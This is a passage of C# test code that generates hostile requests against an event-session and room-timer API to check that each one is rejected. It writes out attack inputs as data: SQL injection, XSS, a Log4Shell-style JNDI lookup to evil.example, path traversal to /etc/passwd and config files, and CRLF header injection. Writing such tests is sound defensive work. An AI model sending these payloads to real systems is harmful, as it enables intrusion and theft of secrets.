        string[] badOrg = ["org-", "org-AAAAAAAAAAAAAAAA", "org-aaaaaaaaaaaaaaa1", "org-aaaaaaaaaaaaaaaaa", "ORG-aaaaaaaaaaaaaaaa", "org_aaaaaaaaaaaaaaaa",
            "org-aaaaaaaaaaaaaaa%C3%A4", "org-aaaaaaaaaaaaaaaa%00", "org-aaaaaaaaaaaaaaaa%0A", Long(3000, 'o')];
        string[] badRoom = ["%00", "Room%00", "Room%0D%0AX-Injected:%201", "%0A", "%7F", "%C2%85", "%20%20%20", Long(101, 'r'), Long(10_000, 'r'),
            Uri.EscapeDataString("\u202eRoom\u0001"), "%E2%80%8B" + Long(100, 'r')];

        foreach (var r in Routes())
        {
            var hasWg = r.Template.Contains("{wg}");
            var hasSur = r.Template.Contains("{sur}");
            var hasOrg = r.Template.Contains("{org}");
            var hasRoom = r.Template.Contains("{room}");
            // A hostile segment that collapses the path may land on another route: 404 or 405 there; a 400 names a field.
            int[] anyRoute = r.Stream ? [Bad, NotFound, Method] : [Bad, NotFound, Method];
            if (hasWg)
            {
                foreach (var wg in badWg)
                    Path(r, "wg", wg, [Bad], "wg");
                foreach (var wg in HostileSegments)
                    Path(r, "wg", wg, anyRoute, null, mutation: "path-traversal+injection");
                foreach (var wg in RawSegments)
                    Path(r, "wg", wg, anyRoute, null, raw: true, mutation: "path-traversal");
            }
            if (hasSur)
            {
                foreach (var sur in badSur)
                    Path(r, "sur", sur, [Bad], "sur");
                foreach (var sur in HostileSegments.Where((_, i) => i % 2 == 0))
                    Path(r, "sur", sur, anyRoute, null, mutation: "path-traversal+injection");
                foreach (var sur in RawSegments.Take(4))
                    Path(r, "sur", sur, anyRoute, null, raw: true, mutation: "path-traversal");
            }
            if (hasOrg)
            {
                // RSVPs and the organisation itself check the id before whose it is; withdrawals and tokens too.
                foreach (var org in badOrg)
                    Path(r, "org", org, [Bad], "organisationId");
                foreach (var org in HostileSegments.Where((_, i) => i % 2 == 1))
                    Path(r, "org", org, anyRoute, null, mutation: "path-traversal+injection");
                foreach (var org in RawSegments.Take(4))
                    Path(r, "org", org, anyRoute, null, raw: true, mutation: "path-traversal");
                if (r.Name.StartsWith("organisations.token"))
                    Path(r, "org", "org-aaaaaaaaaaaaaaaa", [NotFound], null, mutation: "unknown-key");
            }
            if (hasRoom)
            {
                // The pages refuse a room no room could be named too (issue 16): their scripts would use it in the API's paths.
                foreach (var room in badRoom)
                    Path(r, "room", room, [Bad], "room");
                // Hostile but well-formed names: only where they cannot change anything (reads of rooms nobody booked).
                if (r.Name is "rooms.get" or "rooms.events" or "rooms.page")
                {
                    foreach (var room in HostileSegments)
                        Path(r, "room", room, r.Name == "rooms.page" ? [200, Bad, NotFound, Method] : anyRoute, null, mutation: "path-traversal+injection");
                    foreach (var room in RawSegments)
                        Path(r, "room", room, r.Name == "rooms.page" ? [200, Bad, NotFound, Method] : anyRoute, null, raw: true, mutation: "path-traversal");
                }
            }
            if (r.Template.Contains("{command}"))
            {
                foreach (var command in new[] { "START", "Start", "start%00", "st%C3%A4rt", "delete", "reset", "%2e%2e", "start%2F..%2F..", "extend%3Fseconds=60", "message", "events", Long(5000, 'c') }
                    .Concat(HostileSegments.Take(12)))
                    Path(r, "command", command, [NotFound, Method], null, mutation: "unknown-command");
                foreach (var command in RawSegments.Take(5))
                    Path(r, "command", command, anyRoute, null, raw: true, mutation: "path-traversal");
            }
            if (r.Template.Contains("{tokenId}"))
                foreach (var tokenId in HostileSegments.Take(14).Append(Long(5000, 't')))
                    Path(r, "tokenId", tokenId, [NotFound, Method], null, mutation: "path-traversal+injection");
            if (r.Template.Contains("{file}"))
            {
                foreach (var file in new[] { "..%2F..%2Fappsettings.json", "%2e%2e%2f%2e%2e%2fappsettings.json", "..%5Cconsole.html", "console.html", "console.js%00.html",
                    "CONSOLE.JS", ".console.js", "console.js.map", "..%252f..%252fappsettings.json", "%C0%AE%C0%AE%2Fappsettings.json", "web.config", ".env" })
                    Path(r, "file", file, [NotFound], null, mutation: "path-traversal");
                foreach (var file in new[] { "../../appsettings.json", "../../../etc/passwd", "..\\..\\appsettings.json", "%2e%2e/%2e%2e/appsettings.json" })
                    Path(r, "file", file, [NotFound], null, raw: true, mutation: "path-traversal");
            }
            if (r.Template.Contains("{page}"))
                foreach (var page in new[] { "..%2F..%2Fappsettings.json", "admin", "console.html", "console%2F", "console;x", "%2e%2e" })
                    Path(r, "page", page, [NotFound], null, mutation: "path-traversal");
        }
    }

    // ---- Tokens ------------------------------------------------------------------------------------------------------

    private IEnumerable<string> HostileAuthorizations()
    {
        var s = scene;
        var secret = Long(43, 'A');
        string B64(byte[] bytes) => Convert.ToBase64String(bytes).TrimEnd('=').Replace('+', '-').Replace('/', '_');
        yield return "Bearer ' OR 1=1 --";
        yield return "Bearer <script>alert(1)</script>";
        yield return "Bearer ${jndi:ldap://evil.example/a}";
        yield return $"Bearer pso_org-aaaaaaaaaaaaaaaa_{secret}";
        yield return $"Bearer pso_{s.CsoA.Id}_{secret}";
        yield return $"Bearer pso_{s.CsoA.Id}_{s.CsoA.Token[^43..]}x";
        yield return $"Bearer {s.CsoA.Token[..^1]}";
        yield return $"Bearer psc_{B64(Utf8("../../etc/passwd"))}_{secret}";
        yield return $"Bearer psc_{B64(Utf8(s.Room))}_{secret}";
        yield return $"Bearer psc_{B64([0xC0, 0xAF, 0xED, 0xA0, 0x80])}_{secret}";
        yield return $"Bearer psc_{B64(Utf8("\u0000"))}_{secret}";
        yield return $"Bearer psc_{Long(600, 'A')}_{secret}";
        yield return $"Bearer psc_{Long(601, 'A')}_{secret}";
        yield return $"Bearer psc_A_{secret}";
        yield return $"Bearer psc_____{secret}";
        yield return "Bearer " + s.OperatorToken + "x";
        yield return "Bearer " + s.OperatorToken[..^1];
        yield return "Bearer " + s.OperatorToken.ToUpperInvariant();
        yield return "Basic " + Convert.ToBase64String(Utf8("operator:" + s.OperatorToken));
        yield return "Bearer";
        yield return "Bearer ";
        yield return "Bearer  ";
        yield return "Token " + s.OperatorToken;
        yield return s.OperatorToken;
        yield return "Bearer " + Long(12_000, 'x');
        yield return "Bearer \u202e" + s.OperatorToken;
        yield return "Bearer ключ";
        yield return "Bearer 🙂";
        yield return "Bearer null";
        yield return "Bearer undefined";
        yield return "Bearer %00";
        yield return "Bearer a\u0000b";
    }

    private void TokenMutations()
    {
        var s = scene;
        // Hostile tokens where a role is needed: 401, with the valid body, so a token wrongly accepted would show in the state.
        foreach (var r in Routes().Where(r => r.Token is not null))
            foreach (var authorization in HostileAuthorizations())
                Add(r.Name, "hostile-token", r.Method, Fill(r.Template, org: r.Name.StartsWith("organisations.token") ? s.CsoC.Id : null),
                    r.Body is null ? null : Utf8(r.Body), r.Body is null ? null : "application/json", authorization, [Unauthorized]);
        // Public reads do not look at the token: the same answer as without one.
        foreach (var r in Routes().Where(r => r.Token is null && !r.Stream && r.Name != "rooms.assets"))
            foreach (var authorization in HostileAuthorizations().Where((_, i) => i % 4 == 0))
                Add(r.Name, "hostile-token", r.Method, Fill(r.Template), null, null, authorization, [200], successMediaType: r.SuccessMediaType);
        // No token at all.
        foreach (var r in Routes().Where(r => r.Token is not null))
            Add(r.Name, "no-token", r.Method, Fill(r.Template), r.Body is null ? null : Utf8(r.Body), r.Body is null ? null : "application/json", null, [Unauthorized]);

        // Valid tokens of the wrong role: 403 before the body is read, or after it is (whose resource it is).
        var wrongRole = new (string Route, string Token)[]
        {
            ("organisations.token.post", s.CsoA.Token), ("organisations.token.delete", s.ConsoleToken), ("wg-session.put", s.CsoA.Token),
            ("wg-session.put", s.ConsoleToken), ("pre-session.put", s.Mission.Token), ("pre-session.put", s.ConsoleToken),
            ("applications.post", s.OperatorToken), ("applications.post", s.ConsoleToken), ("applications.post", s.Mission.Token),
            ("applications.delete", s.ConsoleToken), ("applications.delete", s.NhriB.Token), ("applications.delete", s.Mission.Token),
            ("rsvps.put", s.OperatorToken), ("rsvps.put", s.ConsoleToken), ("rsvps.put", s.CsoA.Token), ("rsvps.put", s.DecliningMission.Token),
            ("timer.command", s.CsoA.Token), ("timer.command", s.Mission.Token), ("timer.command", s.OtherRoomConsoleToken),
            ("timer.message.put", s.CsoA.Token), ("timer.message.put", s.OtherRoomConsoleToken), ("timer.message.delete", s.Mission.Token),
            ("timer.message.delete", s.OtherRoomConsoleToken), ("rundown.put", s.ConsoleToken), ("rundown.put", s.CsoA.Token),
            ("rundown.delete", s.ConsoleToken), ("time-report", s.OtherRoomConsoleToken), ("time-report.csv", s.CsoA.Token), ("wg-time-report", s.Mission.Token),
            ("console-tokens.post", s.ConsoleToken), ("console-tokens.post", s.CsoA.Token), ("console-tokens.get", s.ConsoleToken),
            ("console-tokens.delete", s.ConsoleToken), ("organisations.get", s.NhriB.Token), ("organisations.get", s.ConsoleToken),
            ("organisations.get", s.Mission.Token),
        };
        var routes = Routes().ToDictionary(r => r.Name);
        foreach (var (name, token) in wrongRole)
        {
            var r = routes[name];
            Add(r.Name, "wrong-role", r.Method, Fill(r.Template, tokenId: scene.ConsoleTokenId), r.Body is null ? null : Utf8(r.Body),
                r.Body is null ? null : "application/json", Bearer(token), [Forbidden]);
        }
        Add("audit", "wrong-role", "GET", $"/api/audit?wg={s.Wg}", null, null, Bearer(s.CsoA.Token), [Forbidden]);
        Add("audit", "wrong-role", "GET", $"/api/audit?wg={s.Wg}", null, null, Bearer(s.ConsoleToken), [Forbidden]);
        foreach (var authorization in HostileAuthorizations())
            Add("audit", "hostile-token", "GET", $"/api/audit?wg={s.Wg}&sur={s.Sur}", null, null, authorization, [Unauthorized]);
        foreach (var authorization in HostileAuthorizations().Where((_, i) => i % 3 == 0))
            Add("register", "hostile-token", "POST", "/api/organisations", Utf8("{\"name\":null,\"kind\":\"cso\"}"), "application/json", authorization, [Bad], "name");
    }

    // ---- Methods -----------------------------------------------------------------------------------------------------

    private void MethodMutations()
    {
        var s = scene;
        var op = Bearer(s.OperatorToken);
        var paths = new (string Name, string Url, string[] Methods)[]
        {
            ("register", "/api/organisations", ["POST", "GET"]),
            ("organisations.get", $"/api/organisations/{s.CsoA.Id}", ["GET"]),
            ("organisations.token", $"/api/organisations/{s.CsoC.Id}/token", ["POST", "DELETE"]),
            ("wg-sessions", "/api/wg-sessions", ["GET"]),
            ("wg-session", $"/api/wg-sessions/{s.Wg}", ["GET", "PUT"]),
            ("schedule.ics", $"/api/wg-sessions/{s.Wg}/schedule.ics", ["GET"]),
            ("wg-time-report", $"/api/wg-sessions/{s.Wg}/time-report", ["GET"]),
            ("pre-session", s.PreSession, ["GET", "PUT"]),
            ("applications", $"{s.PreSession}/applications", ["POST"]),
            ("applications.delete", $"{s.PreSession}/applications/{s.CsoA.Id}", ["DELETE"]),
            ("rsvps.put", $"{s.PreSession}/rsvps/{s.Mission.Id}", ["PUT"]),
            ("timer.get", $"{s.PreSession}/timer", ["GET"]),
            ("timer.command", $"{s.PreSession}/timer/pause", ["POST"]),
            ("timer.message", $"{s.PreSession}/timer/message", ["PUT", "DELETE", "POST"]),
            ("timer.events", $"{s.PreSession}/timer/events", ["GET", "POST"]),
            ("rundown", $"{s.PreSession}/rundown", ["GET", "PUT", "DELETE"]),
            ("time-report", $"{s.PreSession}/time-report", ["GET"]),
            ("time-report.csv", $"{s.PreSession}/time-report.csv", ["GET"]),
            ("rooms.get", $"/api/rooms/{Uri.EscapeDataString(s.Room)}", ["GET"]),
            ("console-tokens", $"/api/rooms/{Uri.EscapeDataString(s.Room)}/console-tokens", ["GET", "POST"]),
            ("console-tokens.delete", $"/api/rooms/{Uri.EscapeDataString(s.Room)}/console-tokens/{s.ConsoleTokenId}", ["DELETE"]),
            ("rooms.events", $"/api/rooms/{Uri.EscapeDataString(s.Room)}/events", ["GET"]),
            ("audit", $"/api/audit?wg={s.Wg}", ["GET"]),
            ("states.get", $"/api/states/{s.Sur}", ["GET"]),
            ("health.live", "/health/live", ["GET"]),
            ("health.ready", "/health/ready", ["GET"]),
            ("openapi", "/openapi/v1.json", ["GET"]),
            ("rooms.page", $"/rooms/{Uri.EscapeDataString(s.Room)}/console", ["GET"]),
            ("rooms.assets", "/rooms/assets/console.js", ["GET"]),
        };
        string[] all = ["GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "FUZZ"];
        foreach (var (name, url, methods) in paths)
            foreach (var method in all.Except(methods))
                Add(name, "odd-method", method, url, null, null, op, [Method]);
        // A CORS preflight from a foreign origin: no CORS here, so the method is not allowed.
        foreach (var (name, url, _) in paths.Where((_, i) => i % 3 == 0))
            Add(name, "odd-method", "OPTIONS", url, null, null, null, [Method],
                headers: [new("Origin", "https://evil.example"), new("Access-Control-Request-Method", "DELETE"), new("Access-Control-Request-Headers", "authorization")]);
        // An override header changes no method: the request is what it says it is (a GET of public data here, or no route).
        foreach (var (name, url, methods) in paths.Where(p => !p.Methods.Contains("GET")))
            Add(name, "odd-method", "GET", url, null, null, op, [Method], headers: [new("X-HTTP-Method-Override", methods[0])]);
    }

    // ---- Headers -----------------------------------------------------------------------------------------------------

    private void HeaderMutations(BodyEndpoint[] bodies)
    {
        var s = scene;
        // More than 16 KiB of headers: 431 wherever the request goes, before any token or body is looked at.
        var urls = Routes().Select(r => (r.Name, r.Method, Url: Fill(r.Template))).ToList();
        foreach (var (name, method, url) in urls)
        {
            Add(name, "huge-header", method, url, null, null, null, [HeadersTooLarge], headers: [new("X-Padding", Long(20 * 1024, 'h'))]);
            Add(name, "huge-header", method, url, null, null, "Bearer " + Long(20 * 1024, 'x'), [HeadersTooLarge]);
        }
        foreach (var (name, method, url) in urls.Where((_, i) => i % 3 == 0))
        {
            Add(name, "huge-header", method, url, null, null, Bearer(s.OperatorToken), [HeadersTooLarge],
                headers: [.. Enumerable.Range(0, 300).Select(i => new KeyValuePair<string, string>($"X-Fuzz-{i}", Long(60, 'v')))]);
            Add(name, "huge-header", method, url, null, null, null, [HeadersTooLarge], headers: [new("Cookie", "session=" + Long(20 * 1024, 'c'))]);
            Add(name, "huge-header", method, url, null, null, null, [HeadersTooLarge], headers: [new("X-" + Long(17 * 1024, 'N'), "v")]);
        }
        Add("unknown", "huge-header", "GET", "/no/such/place", null, null, null, [HeadersTooLarge], headers: [new("X-Padding", Long(20 * 1024, 'h'))]);
        Add("health.live", "huge-header", "GET", "/health/live", null, null, null, [HeadersTooLarge], headers: [new("User-Agent", Long(20 * 1024, 'u'))]);

        // Under the limit, the request is judged as usual: here its invalid body.
        foreach (var e in bodies)
        {
            var invalid = Utf8(Object(e.Fields.Select(f => (f.Name, "null"))));
            Add(e.Name, "large-header", e.Method, e.Url, invalid, "application/json", e.Token is "" ? null : e.Token, [Bad],
                headers: [new("X-Padding", Long(12 * 1024, 'h'))]);
            // Header values with CR/LF, NUL and non-ASCII: refused by the client, or judged as usual by the gateway.
            foreach (var value in new[] { "a\r\nX-Injected: 1", "a\nb", "a\u0000b", "ü-ß-\u202e", "🙂" })
                Add(e.Name, "header-injection", e.Method, e.Url, invalid, "application/json", e.Token is "" ? null : e.Token, [Bad],
                    headers: [new("X-Fuzz", value)]);
            // Hostile Idempotency-Keys on a valid body: refused before anything happens.
            if (e.Headers?.Contains("Idempotency-Key") == true)
                foreach (var key in IdempotencyKeys)
                    Add(e.Name, "idempotency-key", e.Method, e.Url, Utf8(e.Valid), "application/json", e.Token is "" ? null : e.Token, [Bad], "Idempotency-Key",
                        headers: [new("Idempotency-Key", key)]);
        }
        foreach (var key in IdempotencyKeys)
            Add("applications.delete", "idempotency-key", "DELETE", $"{s.PreSession}/applications/{s.CsoA.Id}", null, null, Bearer(s.CsoA.Token), [Bad],
                "Idempotency-Key", headers: [new("Idempotency-Key", key)]);
        // Two Idempotency-Key headers: one request, one key, or a refusal; never two effects.
        Add("applications.post", "idempotency-key", "POST", $"{s.PreSession}/applications", Utf8("{\"speakerName\":null}"), "application/json",
            Bearer(s.CsoD.Token), [Bad], headers: [new("Idempotency-Key", "one"), new("Idempotency-Key", "two")]);

        // Accept headers that exclude JSON: the status stays the contract's.
        foreach (var accept in new[] { "text/html", "application/xml", "image/png", "text/plain;q=1, application/json;q=0" })
        {
            Add("unknown", "accept", "GET", "/api/no-such-thing", null, null, null, [NotFound], headers: [new("Accept", accept)]);
            Add("wg-session.get", "accept", "GET", "/api/wg-sessions/0", null, null, null, [Bad], "wg", headers: [new("Accept", accept)]);
            Add("audit", "accept", "GET", $"/api/audit?wg={s.Wg}", null, null, null, [Unauthorized], headers: [new("Accept", accept)]);
            Add("audit", "accept", "GET", $"/api/audit?wg={s.Wg}", null, null, Bearer(s.CsoA.Token), [Forbidden], headers: [new("Accept", accept)]);
            Add("register", "accept", "POST", "/api/organisations", Utf8("{"), "application/json", null, [Bad], headers: [new("Accept", accept)]);
            Add("wg-session.put", "accept", "PATCH", $"/api/wg-sessions/{s.Wg}", null, null, null, [Method], headers: [new("Accept", accept)]);
            Add("register", "accept", "POST", "/api/organisations", Utf8("{}"), "text/plain", null, [Unsupported], headers: [new("Accept", accept)]);
        }
    }

    // ---- Queries (the audit log) ---------------------------------------------------------------------------------------

    private void QueryMutations()
    {
        var s = scene;
        var op = Bearer(s.OperatorToken);
        foreach (var (query, field) in new (string, string?)[]
        {
            ("", "query"), ("?", "query"), ($"?sur={s.Sur}", null), ($"?wg={s.Wg}&organisationId={s.CsoA.Id}", "query"),
            ($"?wg={s.Wg}&room=x", "query"), ($"?organisationId={s.CsoA.Id}&room=x", "query"), ($"?wg={s.Wg}&wg={s.Wg + 1}", "wg"),
            ("?wg=0", "wg"), ("?wg=1000", "wg"), ("?wg=-1", "wg"), ("?wg=%00", "wg"), ("?wg=1%20OR%201=1", "wg"), ("?wg=%27%20OR%201=1%20--", "wg"),
            ("?wg=" + Long(5000, '9'), "wg"), ("?wg=%EF%BC%92%EF%BC%99", "wg"), ($"?wg={s.Wg}&sur=fra", "sur"), ($"?wg={s.Wg}&sur=..%2F..%2Fetc", "sur"),
            ($"?wg={s.Wg}&sur=%3Cscript%3E", "sur"), ($"?wg=x&sur={s.Sur}", "wg"), ("?organisationId=org-", "organisationId"),
            ("?organisationId=..%2F..%2Fetc%2Fpasswd", "organisationId"), ("?organisationId=%27%20OR%201=1%20--", "organisationId"),
            ("?organisationId=" + Long(5000, 'o'), "organisationId"), ("?organisationId=org-aaaaaaaaaaaaaaaa%00", "organisationId"),
            ("?room=%00", "room"), ("?room=" + Long(101, 'r'), "room"), ("?room=" + Long(20_000, 'r'), "room"), ("?room=a%0D%0Ab", "room"),
            ("?room=%20%20", "room"), ("?wg=1%0A", "wg"), ($"?wg={s.Wg}&sur=FRA%0A", "sur"), ("?organisationId=org-aaaaaaaaaaaaaaaa%0A", "organisationId"), ($"?organisationId={s.CsoA.Id}&organisationId={s.NhriB.Id}", "organisationId"),
        })
            Add("audit", "query", "GET", "/api/audit" + query, null, null, op, [Bad], field, errorsOptional: false);
    }

    // ---- Routes that do not exist ------------------------------------------------------------------------------------

    private void RouteMutations()
    {
        var s = scene;
        var op = Bearer(s.OperatorToken);
        foreach (var url in new[]
        {
            "/api", "/api/", "/api/unknown", $"/api/wg-sessions/{s.Wg}/pre-sessions",
            $"/api/wg-sessions/{s.Wg}/pre-sessions/{s.Sur}/applications/{s.CsoA.Id}/extra", $"/api/organisations/{s.CsoA.Id}/applications",
            "/api/organisations/x/y/z", "/.env", "/appsettings.json", "/web.config", "/.git/config", "/etc/passwd", "/%2e%2e/%2e%2e/etc/passwd",
            "/api/..%2F..%2Fetc%2Fpasswd", "/api/rooms", "/api/rooms/", "/api/states", "/api/audit/x", "/rooms", "/rooms/x", "/rooms/assets",
            "/rooms/assets/", "/wwwroot/rooms/console.html", "/rooms/console.html", "/openapi/v2.json", "/openapi/../appsettings.json", "/health",
            "/health/../../etc/passwd", "/API/ORGANISATIONS/X/Y", "/api/organisations%2F" + s.CsoA.Id,
            "/" + Long(5000, 'p'), "/api/wg-sessions/" + string.Concat(Enumerable.Repeat("a/", 500)), "/cgi-bin/test.cgi", "/wp-admin/",
            "/api/wg-sessions/1/pre-sessions/FRA/timer/start/again",
        })
        {
            Add("unknown", "unknown-route", "GET", url, null, null, null, [NotFound]);
            Add("unknown", "unknown-route", "POST", url, Utf8("{}"), "application/json", op, [NotFound, Method]);
        }
        Add("wg-session.put", "path", "PUT", "/api/wg-sessions/999%0A", Utf8("{\"title\":\"T\",\"venue\":\"V\",\"provisional\":true}"), "application/json", op, [Bad], "wg");
        foreach (var url in new[] { "/api/../../../../etc/passwd", "/rooms/assets/../../appsettings.json", "/./api/./unknown", "/api//organisations//x" })
            Add("unknown", "path-traversal", "GET", url, null, null, null, [NotFound], rawUrl: true);
    }

    // ---- Random combinations -----------------------------------------------------------------------------------------

    /// <summary>A random field of a random endpoint gets a random invalid value, behind random truncation or wrapping.</summary>
    private void RandomCombinations(BodyEndpoint[] bodies, int count)
    {
        for (var i = 0; i < count; i++)
        {
            var e = bodies[_random.Next(bodies.Length)];
            var f = e.Fields[_random.Next(e.Fields.Length)];
            var values = Invalid(f).ToList();
            var (mutation, value) = values[_random.Next(values.Count)];
            var body = e.With(f.Name, value);
            switch (_random.Next(4))
            {
                case 0:
                    Body(e, "random:" + mutation, Utf8(body), [Bad], FieldOf(f, mutation, value));
                    break;
                case 1:
                    Body(e, "random:broken-json", Utf8(body[.._random.Next(1, body.Length - 1)]), [Bad]);
                    break;
                case 2:
                    Body(e, "random:deep-nesting", Utf8(Long(Math.Min(_random.Next(65, 20_000), 60_000 - body.Length), '[') + body), [Bad]);
                    break;
                default:
                    var extra = Injections[_random.Next(Injections.Length)];
                    // An injection string as a key nobody reads, beside the invalid field: still the field's 400.
                    Body(e, "random:" + mutation + "+injection-key", Utf8(body[..^1] + "," + Str(extra) + ":" + Str(extra) + "}"), [Bad], FieldOf(f, mutation, value));
                    break;
            }
        }
    }
}
